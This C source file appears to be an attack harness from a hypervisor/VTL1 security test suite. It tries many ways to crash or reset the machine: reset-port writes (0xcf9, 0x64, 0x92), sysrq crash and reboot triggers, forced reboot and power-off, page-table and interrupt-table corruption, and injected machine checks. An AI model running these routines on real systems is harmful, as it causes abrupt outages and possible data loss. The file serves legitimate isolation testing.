// SPDX-License-Identifier: BSD-2-Clause
/*
 * attack-destroy WAY: ends the machine. The CPU's machinery on a frame of VTL1's (idt, cr3), or one
 * of the doors through which software resets a PC: ports 0xcf9, 0x64, 0x92; Linux's emergency
 * restart (sysrq), its orderly one (reboot), its panic (panic), and its power-off by ACPI
 * (poweroff). Or a machine check, while the CPU runs a trustlet (machine-check-vtl1) or waits for a
 * SIPI, which it does in the hypervisor (machine-check-hypervisor). Or a reset by port while a
 * trustlet has patterns in registers (registers).
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/io.h>
#include <sys/reboot.h>
#include <unistd.h>
#include "attacker.h"
#include "../trustlets/pattern.h"

static void machinery_away(enum attack_part part)
{
    struct frames frames = survey();

    machinery(find_frame(&frames, FRAME_CLOSED, 5), part, false);
}

static void write_port(uint16_t port, uint8_t value)
{
    if (iopl(3))
        bail("iopl: %s", strerror(errno));
    outb(value, port);
    sleep(1);
}

static void sysrq(char key)
{
    int file = open("/proc/sysrq-trigger", O_WRONLY | O_CLOEXEC);

    if (write(file, &key, 1) != 1)
        bail("sysrq: %s", strerror(errno));
    sleep(1);
}

static void run(const char *command)
{
    if (system(command))
        bail("%s failed", command);
}

static void check_machine_in_vtl1(void)
{
    char command[64] = "";

    run("ium run attack-pattern spin 1000000000000 &");
    snprintf(command, sizeof(command), "host machine-check 0 R15=%llx",
             (unsigned long long)(PATTERN + PATTERN_GPR + 14));
    run(command);
    sleep(1);
}

/* A reset that finds the other CPU in a trustlet: its registers go into the hypervisor's memory. */
static void reset_beside_registers(void)
{
    run_on(0);
    run("taskset -c 1 ium run attack-pattern spin 1000000000000 &");
    sleep(2);
    run("host dump");
    write_port(0xcf9, 6);
}

static void check_machine_in_hypervisor(void)
{
    run("echo 0 >/sys/devices/system/cpu/cpu1/online");
    send_icr(1, ICR_INIT);
    run("host machine-check 1 HLT=1.*CR4=......[4-7c-f].");
    sleep(1);
}

int main(int argc, char **argv)
{
    const char *way = argc == 2 ? argv[1] : "";

    attacker_start();
    if (!strcmp(way, "idt"))
        machinery_away(ATTACK_IDT_WHOLE);
    else if (!strcmp(way, "cr3"))
        machinery_away(ATTACK_CR3);
    else if (!strcmp(way, "cf9"))
        write_port(0xcf9, 6);
    else if (!strcmp(way, "keyboard"))
        write_port(0x64, 0xfe);
    else if (!strcmp(way, "keyboard-output")) {
        /* The controller's output port, whose bit 0 is the reset line. */
        write_port(0x64, 0xd1);
        write_port(0x60, 0);
    } else if (!strcmp(way, "keyboard-between")) {
        /* The same; commands in between do not have it forget. */
        write_port(0x64, 0xd1);
        write_port(0x64, 0xff);
        write_port(0x64, 0xaa);
        write_port(0x60, 2);
    } else if (!strcmp(way, "port92"))
        write_port(0x92, 1);
    else if (!strcmp(way, "sysrq"))
        sysrq('b');
    else if (!strcmp(way, "panic"))
        sysrq('c');
    else if (!strcmp(way, "reboot"))
        reboot(RB_AUTOBOOT);
    else if (!strcmp(way, "poweroff"))
        reboot(RB_POWER_OFF);
    else if (!strcmp(way, "registers"))
        reset_beside_registers();
    else if (!strcmp(way, "machine-check-vtl1"))
        check_machine_in_vtl1();
    else if (!strcmp(way, "machine-check-hypervisor"))
        check_machine_in_hypervisor();
    bail("the machine lives on");
}
